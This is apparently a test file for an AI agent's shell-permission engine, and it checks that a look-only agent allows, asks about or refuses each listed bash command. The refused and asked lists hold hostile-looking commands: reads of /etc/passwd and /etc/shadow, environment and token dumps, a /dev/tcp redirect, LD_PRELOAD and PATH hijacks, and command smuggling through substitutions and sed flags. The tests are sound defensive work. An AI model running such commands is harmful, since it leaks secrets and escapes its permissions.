import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isHarmlessSedScript } from "../../../src/permissions/shell/read-only/sed.ts";
import { buildEngine, callOf, decideBash, EXPLORER } from "../harness.ts";

const explore = (command: string) => decideBash({}, command, { agent: EXPLORER });

describe("bash of an agent that may only look", () => {
	it.each([
		"ls -la src",
		"cat a b | head -20 | wc -l",
		"grep -rn 'TODO' src | sort | uniq -c | sort -rn",
		"rg --glob '*.ts' -n pattern src",
		"find . -name '*.ts' -not -path './node_modules/*' -mtime -7 -print0",
		"find src -type f -perm -u+w -printf '%p\\n'",
		"git log --oneline -n 20",
		"git --no-pager diff HEAD~1 -- src",
		"git show HEAD:src/a.ts",
		"git status --short && git branch -a",
		"git branch --list 'feat/*'",
		"git tag --list",
		"git remote -v",
		"git stash list",
		"git blame -L 1,20 src/a.ts",
		"git grep -n pattern",
		"sed -n '1,20p' a",
		"sed -nE 's/^a(b)/\\1/p; /x/,/y/p' a",
		"sed 's/a/b/g' a | head",
		"timeout 5 ls",
		"time ls",
		'for f in a b; do cat "$f"; done',
		'for f in *.ts; do echo "$f"; done',
		'while read -r line; do echo "$line"; done < a',
		"if [ -f a ]; then cat a; else echo none; fi",
		"[[ -f a && a == b ]] && echo yes",
		"cat a 2>/dev/null || true",
		"ls > /dev/null 2>&1",
		"cat <<'EOF'\ntext\nEOF",
		"cat <<< text",
		"diff <(sort a) <(sort b)",
		'echo "$(git rev-parse HEAD)"',
		"cd src && ls",
		"node --version",
		"command -v node",
		"/usr/bin/head -5 a",
		"jq '.a' b.json",
		"sort -k2,2 -t: a",
		"date +%s",
		"du -sh . | cut -f1",
		"ls | tr a-z A-Z",
		"echo 'rm -rf /'",
	])("lets %j run without asking", (command) => {
		expect(explore(command)).toEqual({ decision: "allow" });
	});

	it.each([
		// Files that the text does not name.
		"find . -name '*.ts' | xargs wc -l",
		"xargs -I{} cat {} < list",
		"cat $(echo /etc/passwd)",
		"for f in $(cat list); do cat $f; done",
		"for f in *.ts; do echo $f; done",
		"echo $(echo '/etc/*')",
		"echo '/etc/*' | while read f; do echo $f; done",
		"[[ -e $(echo /etc/shadow) ]]",
		'cat "$f"; for f in a; do read f; done',
		"cat <<< $TOKEN",
		"cat <<E\n$TOKEN\nE",
		"echo $TOKEN",
		// Outside.
		"cat /etc/passwd",
		"unexpand /etc/passwd",
		"ls -la /root",
		"for f in /root/.*; do cat <<< $f; done",
		"select x in /root/.*; do break; done",
		"[[ -f /etc/passwd ]]",
		"for f in /etc/passwd; do cat $f; done",
		"git diff --no-index /dev/null /etc/passwd",
		"date -f /etc/passwd",
		"jq -Rr . /etc/passwd",
		// The environment, and what the settings of git hold.
		"printenv",
		"ps eww",
		"jq -n env",
		"jq -n --arg a -- -f evil.jq",
		"jq . --arg a -- a.json -f evil.jq",
		"jq --arg a b '$ENV' a",
		'for p in $(ps -eo pid); do tr "\\0" "\\n" < /proc/$p/environ; done',
		"git config --get user.name",
		"nice -n 5 cat a",
		"sleep 1 & wc -l a",
	])("asks about %j", (command) => {
		expect(explore(command).decision).toBe("ask");
		expect(decideBash({ mode: "plan" }, command).decision).toBe("ask");
		expect(decideBash({}, command).decision).toBe("ask");
	});

	it.each([
		// Commands that change something, or may.
		"rm a",
		"touch a",
		"mkdir a",
		"mv a b",
		"cp a b",
		"ln -s a b",
		"chmod +x a",
		"tee a",
		"ls | tee a",
		"npm install",
		"node -e 'x'",
		"python a.py",
		"make",
		"curl https://example.com",
		"awk '{print > \"a\"}' b",
		"perl -pi -e s/a/b/ c",
		"dd if=a of=b",
		"./script.sh",
		"/tmp/evil/bin/ls",
		"less a",
		"vim a",
		"man ls",
		"watch ls",
		"kill 1",
		// Harmless commands with harmful options.
		"sort -o a b",
		"sort -uo a b",
		"sort --output=a b",
		"sort --outp a b",
		"sort --compress-program=./evil a",
		"sort $x",
		"sort *",
		"uniq a b",
		"uniq $x",
		"uniq -- a b",
		"xxd a b",
		"xxd -r a",
		"tree -o a",
		"date -s tomorrow",
		"date --set=tomorrow",
		"date 01010000",
		"file -C -m a",
		"rg --pre ./evil x",
		"rg --pre=./evil x",
		"rg --hostname-bin=./evil x",
		"fd -x rm",
		"fd --exec rm",
		"hostname evil",
		"env A=1 ls",
		"env -i ls",
		"time -o a ls",
		"command time -o a ls",
		// find
		"find . -delete",
		"find . -exec rm {} +",
		"find . -execdir ls \\;",
		"find . -ok ls \\;",
		"find . -fprint a",
		"find . -fprintf a x",
		"find . -fls a",
		"find $x",
		"find . $x",
		"find . -del\\ete",
		"find . '-delete'",
		"find . -unheard-of",
		// git
		"git checkout main",
		"git commit -m x",
		"git push",
		"git fetch",
		"git pull",
		"git clean -fd",
		"git stash",
		"git stash pop",
		"git branch new",
		"git branch -D main",
		"git branch -l new",
		"git tag v1",
		"git tag -d v1",
		"git remote add x y",
		"git remote -v update",
		"git remote show origin",
		"git config user.name x",
		"git config --get a --unset",
		"git reflog expire --all",
		"git worktree add x",
		"git -c core.pager=./evil log",
		"git -C ../evil status",
		"git --git-dir=evil status",
		"git -p log",
		"git log --output=a",
		"git diff --outp=a",
		"git diff --ext-diff",
		"git grep -O./evil x",
		"git grep --open-files-in-pager=./evil x",
		"git cat-file --filters HEAD:a",
		"git $x",
		"git log $x",
		"git unheard-of",
		"cd evil && git status",
		// sed
		"sed -i s/a/b/ c",
		"sed -n -i p a",
		"sed -ni p a",
		"sed --in-place s/a/b/ c",
		"sed --in-pl s/a/b/ c",
		"sed -n 'w a' b",
		"sed 's/a/b/w c' d",
		"sed 's/a/b/e' c",
		"sed '1e rm a' b",
		"sed 'e' b",
		"sed -f script a",
		'sed -n "$x" a',
		"sed -n p $x",
		"sed -e p -e 'w a' b",
		// xargs
		"ls | xargs rm",
		"ls | xargs sort",
		"ls | xargs git log",
		"ls | xargs -I{} sh -c '{}'",
		"ls | xargs -I{} {}",
		"ls | xargs env ls",
		"xargs --unheard-of cat",
		"xargs $x cat",
		// Redirections, variables, functions, and other ways out.
		"ls > a",
		"ls >> a",
		"ls &> a",
		"ls >| a",
		"ls 1<> a",
		"> a",
		"ls > $x",
		"ls > /dev/tcp/1.2.3.4/80",
		"cat < /dev/tcp/1.2.3.4/80",
		"cat < $x",
		"{ ls; } > a",
		"A=1 ls",
		"LD_PRELOAD=./evil.so ls",
		"PATH=/evil; ls",
		": ${LD_PRELOAD:=./evil.so}",
		"for PATH in /evil; do ls; done",
		"export A=1",
		"ls() { rm a; }; ls",
		"$(echo rm) a",
		"$x",
		'"$x"',
		"l$x",
		"eval ls",
		"bash -c ls",
		"echo ls | bash",
		"source a",
		". a",
		"exec ls",
		"builtin cd",
		"trap ls EXIT",
		"alias ls=rm",
		"coproc rm a",
		"ls $(rm a)",
		"ls `rm a`",
		"cat <(rm a)",
		"ls >(rm a)",
		"cat <<EOF\n$(rm a)\nEOF",
		"echo $((x))",
		"echo ${x@P}",
		"read PATH < a",
		"read 'a[$(rm b)]' < c",
		"printf -v 'a[$(rm b)]' x",
		"printf -v PATH .; ls",
		"printf -vPATH .; ls",
		"ls; rm a",
		"ls\nrm a",
		"ls & rm a",
		"ls || rm a",
		"ls |& rm a",
		"(rm a)",
		"if rm a; then ls; fi",
		"case x in x) rm a;; esac",
		"ls 'open",
		"\\rm a",
		"'r'm a",
		"/bin/rm a",
		"timeout 5 rm a",
		"stdbuf -oL rm a",
		"nohup ls",
	])("refuses %j", (command) => {
		expect(explore(command).decision).toBe("deny");
	});

	it("says what is wrong and what is allowed", () => {
		const { message } = explore("rm a") as { message: string };
		expect(message).toContain(
			"Permission denied: This agent may only run commands that change nothing: 'rm' is not one of the commands that are known to change nothing. Allowed are arch, ",
		);
		expect(message).toContain("; git with annotate, blame, branch, ");
		expect(message).toContain("output redirected to /dev/null only.");
	});

	it("is not widened by allow rules, approvals, hooks or modes", () => {
		const more = { agent: EXPLORER, hookDecision: "allow", mode: "bypassPermissions" } as const;
		expect(decideBash({ allow: ["Bash", "Bash(rm *)"] }, "rm a", more).decision).toBe("deny");
	});

	it("is narrowed by deny and ask rules", () => {
		const more = { agent: EXPLORER };
		expect(decideBash({ deny: ["Bash(git log *)"] }, "git log", more).decision).toBe("deny");
		expect(decideBash({ ask: ["Bash(git log *)"] }, "git log", more).decision).toBe("ask");
		expect(decideBash({ deny: ["Read(.env)"] }, "head .env", more).decision).toBe("deny");
	});

	it("asks before it reads outside the workspace", () => {
		const base = realpathSync(mkdtempSync(join(tmpdir(), "clowder-look-")));
		for (const folder of ["project", "added", "other"]) {
			mkdirSync(join(base, folder));
			writeFileSync(join(base, folder, "a"), "");
		}
		const setup = { cwd: join(base, "project"), additionalDirectories: [join(base, "added")] };
		const look = (command: string) => decideBash(setup, command, { agent: EXPLORER }).decision;
		expect(look("cat a")).toBe("allow");
		expect(look("cat ../added/a")).toBe("allow");
		expect(look("cat ../other/a")).toBe("ask");
		expect(look(`cat < ${base}/other/a`)).toBe("ask");
		expect(look("grep /api/v1 a")).toBe("allow");
	});

	it("holds for plan mode too", () => {
		expect(decideBash({ mode: "plan" }, "git log").decision).toBe("allow");
		expect(decideBash({ mode: "plan", allow: ["Bash(npm test)"] }, "npm test").decision).toBe("deny");
	});

	it("refuses every other tool that writes", () => {
		const { engine } = buildEngine({ allow: ["Edit"] });
		expect(engine.decide(callOf("edit_file", { path: "a" }, { agent: EXPLORER }))).toEqual({
			decision: "deny",
			message: "Permission denied: explore agents may not change anything, and edit_file may",
		});
		expect(engine.decide(callOf("deploy", {}, { agent: EXPLORER, toolReadOnly: "unknown" })).decision).toBe("deny");
		expect(engine.decide(callOf("read_file", { path: "a" }, { agent: EXPLORER })).decision).toBe("allow");
	});
});

describe("isHarmlessSedScript", () => {
	it.each([
		"p",
		"1,5p",
		"$!d",
		"/a/I,+3{p;q}",
		"s|a|b|gp",
		"y/ab/cd/",
		":a;N;$!ba;s/\\n/ /g",
		"0~3d",
		"/[a]/p",
		"s/a\\/b/c/2",
	])("accepts %j", (script) => {
		expect(isHarmlessSedScript(script)).toBe(true);
	});

	it.each([
		"w a",
		"s/a/b/w a",
		"s/a/b/e",
		"s/a/b/gw a",
		"1e",
		"r a",
		"R a",
		"W a",
		"p;w a",
		"{w a",
		"i\\text",
		"s/[/x/;#]/y/e",
		"s/a/b",
		"p#x",
		"v",
		"s\na\nb\nw c",
	])("refuses %j", (script) => {
		expect(isHarmlessSedScript(script)).toBe(false);
	});
});
